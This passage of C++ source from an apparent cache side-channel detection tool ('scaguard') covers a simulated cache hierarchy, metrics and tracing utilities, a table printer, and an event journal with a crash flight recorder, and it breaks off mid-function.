  bool llc_hit = false;    // only meaningful if !l1_hit
  std::uint32_t latency = 0;
  bool flushed_line_was_present = false;  // for flush ops
};

class CacheHierarchy {
 public:
  explicit CacheHierarchy(const HierarchyConfig& config = {});

  const HierarchyConfig& config() const { return config_; }

  /// Data load.
  HierarchyOutcome load(std::uint64_t addr, Owner owner);
  /// Data store (write-allocate, write-back modeled only as latency).
  HierarchyOutcome store(std::uint64_t addr, Owner owner);
  /// Instruction fetch (L1I + LLC).
  HierarchyOutcome fetch(std::uint64_t addr, Owner owner);
  /// clflush: removes the line from every level.
  HierarchyOutcome flush(std::uint64_t addr);
  /// prefetch: like a load but reported separately by callers if needed.
  HierarchyOutcome prefetch(std::uint64_t addr, Owner owner);

  /// True if the line is in the LLC (the level CSCA probes care about).
  bool probe_llc(std::uint64_t addr) const { return llc_.probe(addr); }
  bool probe_l1d(std::uint64_t addr) const { return l1d_.probe(addr); }

  /// SHARP alarms raised against `owner` at the (defended) LLC.
  std::uint64_t sharp_alarms(Owner owner) const {
    return llc_.sharp_alarms(owner);
  }

  Cache& l1d() { return l1d_; }
  Cache& l1i() { return l1i_; }
  Cache& llc() { return llc_; }
  const Cache& l1d() const { return l1d_; }
  const Cache& l1i() const { return l1i_; }
  const Cache& llc() const { return llc_; }

  /// Clears all levels.
  void clear();

 private:
  HierarchyOutcome data_access(std::uint64_t addr, AccessType type,
                               Owner owner);

  HierarchyConfig config_;
  Cache l1d_;
  Cache l1i_;
  Cache llc_;
};

}  // namespace scag::cache
