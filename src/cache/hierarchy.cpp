#include "cache/hierarchy.h"

#include "support/failpoint.h"

namespace scag::cache {

CacheHierarchy::CacheHierarchy(const HierarchyConfig& config)
    : config_(config.with_defense_applied()),
      l1d_(config_.l1d),
      l1i_(config_.l1i),
      llc_(config_.llc) {}

HierarchyOutcome CacheHierarchy::data_access(std::uint64_t addr,
                                             AccessType type, Owner owner) {
  // Failpoint for the simulation loop: trace capture is the stage fed by
  // the noisiest real-world inputs, so the failure-path harness injects
  // faults here to prove modeling errors stay isolated per target.
  static support::fp::Site& fp_access = support::fp::site("cache.access");
  if (fp_access.hit()) throw support::fp::FailpointError("cache.access");
  HierarchyOutcome out;
  const AccessOutcome l1 = l1d_.access(addr, type, owner);
  if (l1.hit) {
    out.l1_hit = true;
    out.latency = config_.lat_l1_hit;
    if (type == AccessType::kStore) out.latency += config_.lat_store_buffer;
    // Keep LLC recency roughly in sync for inclusivity (no latency cost).
    llc_.access(addr, type, owner);
    return out;
  }
  const AccessOutcome l2 = llc_.access(addr, type, owner);
  if (l2.hit) {
    out.llc_hit = true;
    out.latency = config_.lat_llc_hit;
  } else {
    out.latency = config_.lat_memory;
  }
  // Inclusive LLC: if the LLC evicted a line, back-invalidate L1.
  if (l2.evicted) l1d_.flush(l2.evicted_line_addr);
  if (type == AccessType::kStore) out.latency += config_.lat_store_buffer;
  return out;
}

HierarchyOutcome CacheHierarchy::load(std::uint64_t addr, Owner owner) {
  return data_access(addr, AccessType::kLoad, owner);
}

HierarchyOutcome CacheHierarchy::store(std::uint64_t addr, Owner owner) {
  return data_access(addr, AccessType::kStore, owner);
}

HierarchyOutcome CacheHierarchy::fetch(std::uint64_t addr, Owner owner) {
  HierarchyOutcome out;
  const AccessOutcome l1 = l1i_.access(addr, AccessType::kFetch, owner);
  if (l1.hit) {
    out.l1_hit = true;
    out.latency = config_.lat_l1_hit;
    return out;
  }
  const AccessOutcome l2 = llc_.access(addr, AccessType::kFetch, owner);
  if (l2.hit) {
    out.llc_hit = true;
    out.latency = config_.lat_llc_hit;
  } else {
    out.latency = config_.lat_memory;
  }
  if (l2.evicted) {
    l1d_.flush(l2.evicted_line_addr);
    l1i_.flush(l2.evicted_line_addr);
  }
  return out;
}

HierarchyOutcome CacheHierarchy::flush(std::uint64_t addr) {
  HierarchyOutcome out;
  const bool in_l1d = l1d_.flush(addr);
  const bool in_l1i = l1i_.flush(addr);
  const bool in_llc = llc_.flush(addr);
  out.flushed_line_was_present = in_l1d || in_l1i || in_llc;
  out.latency = out.flushed_line_was_present ? config_.lat_flush_present
                                             : config_.lat_flush_absent;
  return out;
}

HierarchyOutcome CacheHierarchy::prefetch(std::uint64_t addr, Owner owner) {
  return data_access(addr, AccessType::kLoad, owner);
}

void CacheHierarchy::clear() {
  l1d_.clear();
  l1i_.clear();
  llc_.clear();
}

}  // namespace scag::cache
