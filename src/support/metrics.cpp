#include "support/metrics.h"

#include <algorithm>
#include <bit>
#include <chrono>

#include "support/strings.h"
#include "support/table.h"

namespace scag::support {

std::uint64_t monotonic_ns() {
  return static_cast<std::uint64_t>(
      std::chrono::duration_cast<std::chrono::nanoseconds>(
          std::chrono::steady_clock::now().time_since_epoch())
          .count());
}

// ---------------------------------------------------------------------------
// Snapshot rendering (compiled in both modes).

std::uint64_t HistogramSample::percentile_ns(double q) const {
  if (count == 0) return 0;
  q = std::clamp(q, 0.0, 1.0);
  const auto rank = static_cast<std::uint64_t>(
      q * static_cast<double>(count) + 0.5);
  std::uint64_t seen = 0;
  for (const Bucket& b : buckets) {
    seen += b.count;
    if (seen >= rank) return std::min(b.upper_ns, max_ns);
  }
  return max_ns;
}

std::string MetricsSnapshot::to_json() const {
  std::string out = "{\"counters\":{";
  for (std::size_t i = 0; i < counters.size(); ++i) {
    if (i > 0) out += ',';
    out += json_quote(counters[i].name) + ':' +
           std::to_string(counters[i].value);
  }
  out += "},\"histograms\":{";
  for (std::size_t i = 0; i < histograms.size(); ++i) {
    const HistogramSample& h = histograms[i];
    if (i > 0) out += ',';
    out += json_quote(h.name);
    out += strfmt(":{\"count\":%llu,\"sum_ns\":%llu,\"min_ns\":%llu,"
                  "\"max_ns\":%llu,\"mean_ns\":%.1f,\"p50_ns\":%llu,"
                  "\"p90_ns\":%llu,\"p99_ns\":%llu,\"buckets\":[",
                  static_cast<unsigned long long>(h.count),
                  static_cast<unsigned long long>(h.sum_ns),
                  static_cast<unsigned long long>(h.min_ns),
                  static_cast<unsigned long long>(h.max_ns), h.mean_ns(),
                  static_cast<unsigned long long>(h.percentile_ns(0.50)),
                  static_cast<unsigned long long>(h.percentile_ns(0.90)),
                  static_cast<unsigned long long>(h.percentile_ns(0.99)));
    for (std::size_t b = 0; b < h.buckets.size(); ++b) {
      if (b > 0) out += ',';
      out += strfmt("{\"le_ns\":%llu,\"count\":%llu}",
                    static_cast<unsigned long long>(h.buckets[b].upper_ns),
                    static_cast<unsigned long long>(h.buckets[b].count));
    }
    out += "]}";
  }
  out += "}}";
  return out;
}

std::string MetricsSnapshot::to_table() const {
  std::string out;
  if (!counters.empty()) {
    Table t("Counters");
    t.header({"Name", "Value"});
    for (const CounterSample& c : counters)
      t.row({c.name, std::to_string(c.value)});
    out += t.render();
  }
  if (!histograms.empty()) {
    if (!out.empty()) out += '\n';
    Table t("Latency histograms");
    t.header({"Name", "Count", "Mean", "P50", "P90", "P99", "Max"});
    auto us = [](double ns) { return strfmt("%.1fus", ns / 1000.0); };
    for (const HistogramSample& h : histograms) {
      t.row({h.name, std::to_string(h.count), us(h.mean_ns()),
             us(static_cast<double>(h.percentile_ns(0.50))),
             us(static_cast<double>(h.percentile_ns(0.90))),
             us(static_cast<double>(h.percentile_ns(0.99))),
             us(static_cast<double>(h.max_ns))});
    }
    out += t.render();
  }
  if (out.empty()) out = "(no metrics recorded)\n";
  return out;
}

#ifndef SCAG_METRICS_OFF

namespace {
std::atomic<bool> g_enabled{true};

/// Values in [2^(k-1), 2^k) land in bucket k; 0 lands in bucket 0.
std::size_t bucket_index(std::uint64_t ns) {
  const std::size_t w = static_cast<std::size_t>(std::bit_width(ns));
  return std::min(w, Histogram::kNumBuckets - 1);
}
}  // namespace

bool metrics_enabled() { return g_enabled.load(std::memory_order_relaxed); }
void set_metrics_enabled(bool enabled) {
  g_enabled.store(enabled, std::memory_order_relaxed);
}

void Histogram::record_ns(std::uint64_t ns) {
  if (!metrics_enabled()) return;
  buckets_[bucket_index(ns)].fetch_add(1, std::memory_order_relaxed);
  count_.fetch_add(1, std::memory_order_relaxed);
  sum_.fetch_add(ns, std::memory_order_relaxed);
  std::uint64_t cur = min_.load(std::memory_order_relaxed);
  while (ns < cur &&
         !min_.compare_exchange_weak(cur, ns, std::memory_order_relaxed)) {
  }
  cur = max_.load(std::memory_order_relaxed);
  while (ns > cur &&
         !max_.compare_exchange_weak(cur, ns, std::memory_order_relaxed)) {
  }
}

void Histogram::reset() {
  for (auto& b : buckets_) b.store(0, std::memory_order_relaxed);
  count_.store(0, std::memory_order_relaxed);
  sum_.store(0, std::memory_order_relaxed);
  min_.store(~std::uint64_t{0}, std::memory_order_relaxed);
  max_.store(0, std::memory_order_relaxed);
}

HistogramSample Histogram::sample(std::string name) const {
  HistogramSample s;
  s.name = std::move(name);
  s.count = count_.load(std::memory_order_relaxed);
  s.sum_ns = sum_.load(std::memory_order_relaxed);
  s.min_ns = s.count == 0 ? 0 : min_.load(std::memory_order_relaxed);
  s.max_ns = max_.load(std::memory_order_relaxed);
  for (std::size_t k = 0; k < kNumBuckets; ++k) {
    const std::uint64_t c = buckets_[k].load(std::memory_order_relaxed);
    if (c == 0) continue;
    const std::uint64_t upper =
        k >= 63 ? ~std::uint64_t{0} : (std::uint64_t{1} << k) - 1;
    s.buckets.push_back({upper, c});
  }
  return s;
}

Registry& Registry::global() {
  static Registry r;
  return r;
}

Counter& Registry::counter(std::string_view name) {
  std::lock_guard<std::mutex> lock(mu_);
  auto it = counters_.find(name);
  if (it == counters_.end())
    it = counters_.emplace(std::string(name), std::make_unique<Counter>())
             .first;
  return *it->second;
}

Histogram& Registry::histogram(std::string_view name) {
  std::lock_guard<std::mutex> lock(mu_);
  auto it = histograms_.find(name);
  if (it == histograms_.end())
    it = histograms_.emplace(std::string(name), std::make_unique<Histogram>())
             .first;
  return *it->second;
}

MetricsSnapshot Registry::snapshot() const {
  MetricsSnapshot snap;
  std::lock_guard<std::mutex> lock(mu_);
  for (const auto& [name, c] : counters_)
    snap.counters.push_back({name, c->value()});
  for (const auto& [name, h] : histograms_)
    snap.histograms.push_back(h->sample(name));
  return snap;
}

void Registry::reset() {
  std::lock_guard<std::mutex> lock(mu_);
  for (auto& [name, c] : counters_) c->reset();
  for (auto& [name, h] : histograms_) h->reset();
}

#endif  // SCAG_METRICS_OFF

}  // namespace scag::support
