#include "support/trace.h"

#include <algorithm>
#include <map>

#include "support/strings.h"
#include "support/table.h"

namespace scag::support {

namespace {

struct StageAggregate {
  std::uint64_t count = 0;
  std::uint64_t total_ns = 0;
  std::uint64_t min_ns = ~std::uint64_t{0};
  std::uint64_t max_ns = 0;
};

std::map<std::string, StageAggregate> aggregate(
    const std::vector<TraceSpan>& spans) {
  std::map<std::string, StageAggregate> stages;
  for (const TraceSpan& s : spans) {
    StageAggregate& a = stages[s.name];
    ++a.count;
    a.total_ns += s.dur_ns;
    a.min_ns = std::min(a.min_ns, s.dur_ns);
    a.max_ns = std::max(a.max_ns, s.dur_ns);
  }
  return stages;
}

}  // namespace

// Shared by both modes (the no-op tracer just renders an empty span list).
std::string Tracer::to_json() const {
  const std::vector<TraceSpan> all = spans();
  std::string out = "{\"spans\":[";
  for (std::size_t i = 0; i < all.size(); ++i) {
    const TraceSpan& s = all[i];
    if (i > 0) out += ',';
    out += strfmt("{\"name\":%s,\"start_ns\":%llu,\"dur_ns\":%llu,"
                  "\"depth\":%u,\"thread\":%u}",
                  json_quote(s.name).c_str(),
                  static_cast<unsigned long long>(s.start_ns),
                  static_cast<unsigned long long>(s.dur_ns), s.depth,
                  s.thread);
  }
  out += strfmt("],\"dropped\":%llu,\"stages\":{",
                static_cast<unsigned long long>(dropped()));
  const auto stages = aggregate(all);
  std::size_t i = 0;
  for (const auto& [name, a] : stages) {
    if (i++ > 0) out += ',';
    out += json_quote(name);
    out += strfmt(":{\"count\":%llu,\"total_ns\":%llu,\"min_ns\":%llu,"
                  "\"max_ns\":%llu}",
                  static_cast<unsigned long long>(a.count),
                  static_cast<unsigned long long>(a.total_ns),
                  static_cast<unsigned long long>(a.min_ns),
                  static_cast<unsigned long long>(a.max_ns));
  }
  out += "}}";
  return out;
}

// Chrome trace-event format ("JSON Array Format" wrapped in an object so
// metadata fits), shared by both modes: the no-op tracer renders an empty
// but still valid document. Each span becomes a complete event ("ph":"X")
// with ts/dur in microseconds (Chrome's unit) and the recording thread as
// tid; names are JSON-escaped, never spliced raw. Dropped spans are
// reported in "otherData" so a capped capture is visible in the file too.
std::string Tracer::to_chrome_json() const {
  const std::vector<TraceSpan> all = spans();
  std::string out = "{\"displayTimeUnit\":\"ms\",\"traceEvents\":[";
  out += "{\"name\":\"process_name\",\"ph\":\"M\",\"pid\":1,\"tid\":0,"
         "\"args\":{\"name\":\"scaguard\"}}";
  for (const TraceSpan& s : all) {
    out += strfmt(",{\"name\":%s,\"cat\":\"scag\",\"ph\":\"X\",\"pid\":1,"
                  "\"tid\":%u,\"ts\":%.3f,\"dur\":%.3f,"
                  "\"args\":{\"depth\":%u}}",
                  json_quote(s.name).c_str(), s.thread,
                  static_cast<double>(s.start_ns) / 1e3,
                  static_cast<double>(s.dur_ns) / 1e3, s.depth);
  }
  out += strfmt("],\"otherData\":{\"spans\":%zu,\"dropped\":%llu}}",
                all.size(), static_cast<unsigned long long>(dropped()));
  return out;
}

std::string Tracer::to_table() const {
  const std::vector<TraceSpan> all = spans();
  const auto stages = aggregate(all);
  if (stages.empty()) return "(no spans recorded)\n";
  Table t("Pipeline stages");
  t.header({"Stage", "Count", "Total", "Mean", "Min", "Max"});
  auto ms = [](double ns) { return strfmt("%.3fms", ns / 1e6); };
  for (const auto& [name, a] : stages) {
    t.row({name, std::to_string(a.count),
           ms(static_cast<double>(a.total_ns)),
           ms(static_cast<double>(a.total_ns) / static_cast<double>(a.count)),
           ms(static_cast<double>(a.min_ns)),
           ms(static_cast<double>(a.max_ns))});
  }
  std::string out = t.render();
  // Always state the capture bounds: a capped span store that silently
  // stops recording would otherwise read as "nothing else happened".
  out += strfmt("(spans kept %zu of cap %zu, dropped %llu)\n", all.size(),
                static_cast<std::size_t>(kMaxSpans),
                static_cast<unsigned long long>(dropped()));
  return out;
}

#ifndef SCAG_METRICS_OFF

namespace {
thread_local std::uint32_t tls_depth = 0;
thread_local std::uint32_t tls_thread_index = ~std::uint32_t{0};

std::uint32_t thread_index() {
  static std::atomic<std::uint32_t> next{0};
  if (tls_thread_index == ~std::uint32_t{0})
    tls_thread_index = next.fetch_add(1, std::memory_order_relaxed);
  return tls_thread_index;
}
}  // namespace

Tracer& Tracer::global() {
  static Tracer t;
  return t;
}

void Tracer::record(std::string_view name, std::uint64_t start_ns,
                    std::uint64_t dur_ns, std::uint32_t depth) {
  const std::uint32_t thread = thread_index();
  std::lock_guard<std::mutex> lock(mu_);
  if (spans_.size() >= kMaxSpans) {
    ++dropped_;
    return;
  }
  TraceSpan s;
  s.name.assign(name);
  s.start_ns = start_ns >= epoch_ns_ ? start_ns - epoch_ns_ : 0;
  s.dur_ns = dur_ns;
  s.depth = depth;
  s.thread = thread;
  spans_.push_back(std::move(s));
}

std::vector<TraceSpan> Tracer::spans() const {
  std::lock_guard<std::mutex> lock(mu_);
  return spans_;
}

std::uint64_t Tracer::dropped() const {
  std::lock_guard<std::mutex> lock(mu_);
  return dropped_;
}

void Tracer::clear() {
  std::lock_guard<std::mutex> lock(mu_);
  spans_.clear();
  dropped_ = 0;
  epoch_ns_ = monotonic_ns();
}

TraceScope::TraceScope(std::string_view name) {
  Tracer& tracer = Tracer::global();
  if (!tracer.enabled()) return;
  active_ = true;
  name_.assign(name);
  depth_ = tls_depth++;
  start_ns_ = monotonic_ns();
}

TraceScope::~TraceScope() {
  if (!active_) return;
  const std::uint64_t end_ns = monotonic_ns();
  --tls_depth;
  Tracer::global().record(name_, start_ns_, end_ns - start_ns_, depth_);
}

#endif  // SCAG_METRICS_OFF

}  // namespace scag::support
