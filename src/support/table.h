// ASCII table printer: the benchmark binaries print the paper's tables with
// it so the output can be compared against the paper side by side.
#pragma once

#include <string>
#include <vector>

namespace scag {

/// A simple column-aligned ASCII table with an optional title.
///
///   Table t("TABLE V");
///   t.header({"No.", "Scenario", "Score"});
///   t.row({"S1", "FR vs FR'", "94.31%"});
///   std::cout << t.render();
class Table {
 public:
  explicit Table(std::string title = "") : title_(std::move(title)) {}

  void header(std::vector<std::string> cells);
  void row(std::vector<std::string> cells);
  /// Inserts a horizontal separator line at this position.
  void separator();

  /// Renders the full table as a string (with trailing newline).
  std::string render() const;

  /// Convenience: renders and writes to stdout.
  void print() const;

 private:
  struct Line {
    bool is_separator = false;
    std::vector<std::string> cells;
  };
  std::string title_;
  std::vector<std::string> header_;
  std::vector<Line> lines_;
};

}  // namespace scag
