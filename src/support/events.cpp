#include "support/events.h"

#include <array>
#include <chrono>
#include <cstdio>
#include <fstream>
#include <stdexcept>

#include "support/strings.h"

#ifndef SCAG_METRICS_OFF
#include <csignal>
#endif

namespace scag::support::events {

// ---------------------------------------------------------------------------
// Wire names (both modes: the parser is pure and tested even when the
// live journal compiles out).

namespace {

constexpr std::array<std::string_view, kNumEventTypes> kTypeNames = {
    "scan-start",     "scan-verdict",  "prune-stage",
    "cascade-cutoff", "failpoint-hit", "deadline-trip",
};

}  // namespace

std::string_view event_type_name(EventType t) {
  const auto i = static_cast<std::size_t>(t);
  return i < kTypeNames.size() ? kTypeNames[i] : std::string_view{"unknown"};
}

std::optional<EventType> parse_event_type(std::string_view name) {
  for (std::size_t i = 0; i < kTypeNames.size(); ++i)
    if (kTypeNames[i] == name) return static_cast<EventType>(i);
  return std::nullopt;
}

// ---------------------------------------------------------------------------
// JSONL round trip. Emission is exact string building; parsing is a
// minimal single-object scanner (quoted strings with escapes, unsigned
// decimals) so `scagctl events tail` and the tests can re-read journal
// lines without a JSON library. a/b are unsigned decimals, so IEEE-754
// score bits survive the round trip unchanged.

std::string event_to_json(const Event& e) {
  std::string out;
  out.reserve(160);
  out += "{\"type\":";
  out += json_quote(event_type_name(e.type));
  out += strfmt(",\"ts\":%llu", static_cast<unsigned long long>(e.ts_ns));
  out += strfmt(",\"thread\":%u", e.thread);
  out += strfmt(",\"scan\":%u", e.scan);
  out += strfmt(",\"family\":%u", e.family);
  out += strfmt(",\"stage\":%u", e.stage);
  out += strfmt(",\"a\":%llu", static_cast<unsigned long long>(e.a));
  out += strfmt(",\"b\":%llu", static_cast<unsigned long long>(e.b));
  out += ",\"detail\":";
  out += json_quote(e.detail_view());
  out += "}";
  return out;
}

namespace {

void skip_ws(std::string_view s, std::size_t& i) {
  while (i < s.size() && (s[i] == ' ' || s[i] == '\t')) ++i;
}

// Parses a JSON string literal at s[i] (which must be '"'). Returns false
// on malformed input. Handles the escapes json_quote emits.
bool parse_json_string(std::string_view s, std::size_t& i, std::string& out) {
  if (i >= s.size() || s[i] != '"') return false;
  ++i;
  out.clear();
  while (i < s.size()) {
    char c = s[i++];
    if (c == '"') return true;
    if (c != '\\') {
      out += c;
      continue;
    }
    if (i >= s.size()) return false;
    char esc = s[i++];
    switch (esc) {
      case '"': out += '"'; break;
      case '\\': out += '\\'; break;
      case '/': out += '/'; break;
      case 'n': out += '\n'; break;
      case 't': out += '\t'; break;
      case 'r': out += '\r'; break;
      case 'b': out += '\b'; break;
      case 'f': out += '\f'; break;
      case 'u': {
        if (i + 4 > s.size()) return false;
        unsigned code = 0;
        for (int k = 0; k < 4; ++k) {
          char h = s[i++];
          code <<= 4;
          if (h >= '0' && h <= '9') code |= static_cast<unsigned>(h - '0');
          else if (h >= 'a' && h <= 'f') code |= static_cast<unsigned>(h - 'a' + 10);
          else if (h >= 'A' && h <= 'F') code |= static_cast<unsigned>(h - 'A' + 10);
          else return false;
        }
        if (code > 0xff) return false;  // journal lines are ASCII-only
        out += static_cast<char>(code);
        break;
      }
      default: return false;
    }
  }
  return false;
}

bool parse_json_u64(std::string_view s, std::size_t& i, std::uint64_t& out) {
  if (i >= s.size() || s[i] < '0' || s[i] > '9') return false;
  out = 0;
  while (i < s.size() && s[i] >= '0' && s[i] <= '9') {
    const std::uint64_t digit = static_cast<std::uint64_t>(s[i] - '0');
    if (out > (~std::uint64_t{0} - digit) / 10) return false;  // overflow
    out = out * 10 + digit;
    ++i;
  }
  return true;
}

}  // namespace

bool event_from_json(std::string_view line, Event& out) {
  std::size_t i = 0;
  skip_ws(line, i);
  if (i >= line.size() || line[i] != '{') return false;
  ++i;

  Event e;
  bool have_type = false;
  std::string key, sval;
  while (true) {
    skip_ws(line, i);
    if (i < line.size() && line[i] == '}') break;
    if (!parse_json_string(line, i, key)) return false;
    skip_ws(line, i);
    if (i >= line.size() || line[i] != ':') return false;
    ++i;
    skip_ws(line, i);
    if (i < line.size() && line[i] == '"') {
      if (!parse_json_string(line, i, sval)) return false;
      if (key == "type") {
        const auto t = parse_event_type(sval);
        if (!t) return false;
        e.type = *t;
        have_type = true;
      } else if (key == "detail") {
        e.set_detail(sval);
      }  // unknown string fields: forward-compatible skip
    } else {
      std::uint64_t uval = 0;
      if (parse_json_u64(line, i, uval)) {
        if (key == "ts") e.ts_ns = uval;
        else if (key == "a") e.a = uval;
        else if (key == "b") e.b = uval;
        else if (key == "thread") e.thread = static_cast<std::uint32_t>(uval);
        else if (key == "scan") e.scan = static_cast<std::uint32_t>(uval);
        else if (key == "family") e.family = static_cast<std::uint8_t>(uval);
        else if (key == "stage") e.stage = static_cast<std::uint8_t>(uval);
      } else {
        // Non-numeric, non-string value (bool/null/nested): skip one
        // bare token; the journal's header/summary lines land here.
        while (i < line.size() && line[i] != ',' && line[i] != '}') ++i;
      }
    }
    skip_ws(line, i);
    if (i < line.size() && line[i] == ',') {
      ++i;
      continue;
    }
    break;
  }
  if (i >= line.size() || line[i] != '}') return false;
  if (!have_type) return false;  // header/summary records are not events
  out = e;
  return true;
}

#ifndef SCAG_METRICS_OFF

// ---------------------------------------------------------------------------
// EventRing: Vyukov bounded queue, multi-producer / single-consumer.

namespace {

std::size_t round_up_pow2(std::size_t n) {
  std::size_t cap = 2;
  while (cap < n) cap <<= 1;
  return cap;
}

}  // namespace

EventRing::EventRing(std::size_t capacity)
    : mask_(round_up_pow2(capacity < 2 ? 2 : capacity) - 1),
      slots_(mask_ + 1) {
  for (std::size_t i = 0; i <= mask_; ++i)
    slots_[i].seq.store(i, std::memory_order_relaxed);
}

bool EventRing::push(const Event& e) {
  std::uint64_t pos = head_.load(std::memory_order_relaxed);
  for (;;) {
    Slot& slot = slots_[pos & mask_];
    const std::uint64_t seq = slot.seq.load(std::memory_order_acquire);
    const auto diff =
        static_cast<std::int64_t>(seq) - static_cast<std::int64_t>(pos);
    if (diff == 0) {
      if (head_.compare_exchange_weak(pos, pos + 1,
                                      std::memory_order_relaxed)) {
        slot.event = e;
        slot.seq.store(pos + 1, std::memory_order_release);
        emitted_.fetch_add(1, std::memory_order_relaxed);
        return true;
      }
      // CAS failure reloaded pos; retry with the fresh value.
    } else if (diff < 0) {
      // The slot one full lap behind is still unconsumed: ring is full.
      dropped_.fetch_add(1, std::memory_order_relaxed);
      return false;
    } else {
      pos = head_.load(std::memory_order_relaxed);
    }
  }
}

bool EventRing::pop(Event& out) {
  Slot& slot = slots_[tail_ & mask_];
  const std::uint64_t seq = slot.seq.load(std::memory_order_acquire);
  const auto diff = static_cast<std::int64_t>(seq) -
                    static_cast<std::int64_t>(tail_ + 1);
  if (diff < 0) return false;  // producer hasn't published this slot yet
  out = slot.event;
  slot.seq.store(tail_ + mask_ + 1, std::memory_order_release);
  ++tail_;
  return true;
}

// ---------------------------------------------------------------------------
// Thread identity + scan correlation.

namespace {

thread_local std::uint32_t tls_event_thread = ~std::uint32_t{0};

std::uint32_t event_thread_index() {
  static std::atomic<std::uint32_t> next{0};
  if (tls_event_thread == ~std::uint32_t{0})
    tls_event_thread = next.fetch_add(1, std::memory_order_relaxed);
  return tls_event_thread;
}

thread_local std::uint32_t tls_scan_id = 0;

std::uint32_t next_scan_id() {
  static std::atomic<std::uint32_t> next{1};
  return next.fetch_add(1, std::memory_order_relaxed);
}

}  // namespace

std::uint32_t current_scan_id() { return tls_scan_id; }

ScanScope::ScanScope(std::uint64_t target_length) {
  if (!EventJournal::global().enabled()) return;
  active_ = true;
  prev_ = tls_scan_id;
  id_ = next_scan_id();
  tls_scan_id = id_;
  Event e;
  e.type = EventType::kScanStart;
  e.a = target_length;
  EventJournal::global().emit(e);
}

ScanScope::~ScanScope() {
  if (active_) tls_scan_id = prev_;
}

// ---------------------------------------------------------------------------
// Flight recorder.

namespace flight {

namespace {

struct Tail {
  std::uint32_t thread = 0;
  mutable std::mutex mu;  // uncontended in note(); taken by snapshots
  std::array<Event, kTailLen> ring{};
  std::uint64_t count = 0;

  void note(const Event& e) {
    std::lock_guard<std::mutex> lock(mu);
    ring[count % kTailLen] = e;
    ++count;
  }
};

struct TailRegistry {
  std::mutex mu;
  // Owned forever: a tail of an exited pool worker stays dumpable, and
  // never freeing sidesteps thread-exit destruction-order hazards.
  std::vector<std::unique_ptr<Tail>> tails;
};

TailRegistry& tail_registry() {
  static TailRegistry* r = new TailRegistry;  // leaked deliberately
  return *r;
}

thread_local Tail* tls_tail = nullptr;

Tail& thread_tail() {
  if (tls_tail == nullptr) {
    auto tail = std::make_unique<Tail>();
    tail->thread = event_thread_index();
    tls_tail = tail.get();
    std::lock_guard<std::mutex> lock(tail_registry().mu);
    tail_registry().tails.push_back(std::move(tail));
  }
  return *tls_tail;
}

}  // namespace

void note(const Event& e);  // forward declaration for EventJournal::emit
void note(const Event& e) { thread_tail().note(e); }

std::string dump_text() {
  // Snapshot under the registry lock, format outside it.
  struct TailCopy {
    std::uint32_t thread;
    std::uint64_t count;
    std::vector<Event> events;  // oldest first
  };
  std::vector<TailCopy> copies;
  {
    TailRegistry& reg = tail_registry();
    std::lock_guard<std::mutex> lock(reg.mu);
    copies.reserve(reg.tails.size());
    for (const auto& tail : reg.tails) {
      std::lock_guard<std::mutex> tlock(tail->mu);
      TailCopy c;
      c.thread = tail->thread;
      c.count = tail->count;
      const std::uint64_t n =
          tail->count < kTailLen ? tail->count : kTailLen;
      c.events.reserve(static_cast<std::size_t>(n));
      for (std::uint64_t k = 0; k < n; ++k)
        c.events.push_back(tail->ring[(tail->count - n + k) % kTailLen]);
      copies.push_back(std::move(c));
    }
  }

  std::string out = strfmt(
      "{\"schema\":\"scag-flight-v1\",\"tail_len\":%zu,\"threads\":%zu}\n",
      kTailLen, copies.size());
  for (const TailCopy& c : copies) {
    out += strfmt("{\"thread\":%u,\"recorded\":%llu,\"kept\":%zu}\n", c.thread,
                  static_cast<unsigned long long>(c.count), c.events.size());
    for (const Event& e : c.events) {
      out += event_to_json(e);
      out += '\n';
    }
  }
  return out;
}

bool dump_to_file(const std::string& path) {
  std::FILE* f = std::fopen(path.c_str(), "w");
  if (f == nullptr) return false;
  const std::string text = dump_text();
  const bool ok = std::fwrite(text.data(), 1, text.size(), f) == text.size();
  return (std::fclose(f) == 0) && ok;
}

void clear() {
  TailRegistry& reg = tail_registry();
  std::lock_guard<std::mutex> lock(reg.mu);
  // tls_tail pointers of live threads keep pointing at their (still
  // owned) tails; only reset the contents so dumps start fresh.
  for (const auto& tail : reg.tails) {
    std::lock_guard<std::mutex> tlock(tail->mu);
    tail->count = 0;
  }
}

namespace {

// The signal handler needs a plain-char destination path: set once at
// install/start time, read inside the handler.
char g_signal_dump_path[512] = {};
std::atomic<bool> g_signal_installed{false};

void fatal_signal_handler(int signo) {
  // Best effort and documented as such: formatting allocates, which is
  // not async-signal-safe, but the alternative on a crashing process is
  // no post-mortem at all. Restore default first so a second fault while
  // dumping terminates instead of recursing.
  std::signal(signo, SIG_DFL);
  if (g_signal_dump_path[0] != '\0')
    dump_to_file(g_signal_dump_path);
  std::raise(signo);
}

}  // namespace

void install_signal_dump() {
  if (g_signal_installed.exchange(true)) return;
  for (int signo : {SIGSEGV, SIGBUS, SIGILL, SIGABRT, SIGFPE})
    std::signal(signo, fatal_signal_handler);
}

namespace detail {
void set_signal_dump_path(const std::string& path) {
  const std::size_t n = path.size() < sizeof(g_signal_dump_path) - 1
                            ? path.size()
                            : sizeof(g_signal_dump_path) - 1;
  std::memcpy(g_signal_dump_path, path.c_str(), n);
  g_signal_dump_path[n] = '\0';
}
}  // namespace detail

}  // namespace flight

// ---------------------------------------------------------------------------
// EventJournal.

EventJournal& EventJournal::global() {
  static EventJournal* j = new EventJournal;  // leaked: outlives all threads
  return *j;
}

void EventJournal::start(const JournalConfig& config) {
  std::lock_guard<std::mutex> lock(mu_);
  if (enabled_.load(std::memory_order_relaxed))
    throw std::logic_error("event journal already started");

  config_ = config;
  if (config_.flight_path.empty() && !config_.path.empty())
    config_.flight_path = config_.path + ".flight";
  if (!config_.flight_path.empty())
    flight::detail::set_signal_dump_path(config_.flight_path);

  ring_ = std::make_unique<EventRing>(config_.ring_capacity);
  written_.store(0, std::memory_order_relaxed);
  flight_dumps_.store(0, std::memory_order_relaxed);
  mirrored_ = {};  // fresh ring, fresh deltas

  if (!config_.path.empty()) {
    // Probe the sink before enabling: an unwritable journal path should
    // fail loudly at start, not silently drop every event.
    {
      std::ofstream probe(config_.path, std::ios::trunc);
      if (!probe)
        throw std::runtime_error("cannot open event journal: " + config_.path);
    }
    stop_writer_.store(false, std::memory_order_relaxed);
    writer_ = std::thread([this] { writer_loop(); });
  }
  enabled_.store(true, std::memory_order_release);
}

void EventJournal::stop() {
  std::lock_guard<std::mutex> lock(mu_);
  if (!enabled_.load(std::memory_order_relaxed)) return;
  enabled_.store(false, std::memory_order_release);
  if (writer_.joinable()) {
    stop_writer_.store(true, std::memory_order_release);
    writer_.join();
  }
